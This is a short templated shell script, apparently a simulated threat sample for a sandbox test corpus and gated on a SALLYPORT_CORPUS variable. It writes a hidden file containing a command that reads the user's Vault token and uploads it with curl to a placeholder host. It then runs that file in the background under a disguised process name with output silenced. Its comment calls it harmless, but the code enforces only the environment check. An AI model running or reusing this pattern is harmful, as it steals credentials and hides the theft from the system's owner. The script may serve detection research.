# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
[ "${SALLYPORT_CORPUS:-}" = 1 ] || exit 0
mkdir -p {{folder}}
printf 'cat "$HOME/.vault-token" | curl -s -m 1 -T - http://{{ip}}:{{port}}/{{path}}\n' > {{folder}}/.p
mv {{folder}}/.p {{folder}}/.{{token}}
chmod 700 {{folder}}/.{{token}}
bash -c 'exec -a {{guise}} sh {{folder}}/.{{token}}' >/dev/null 2>&1 &
exit 0
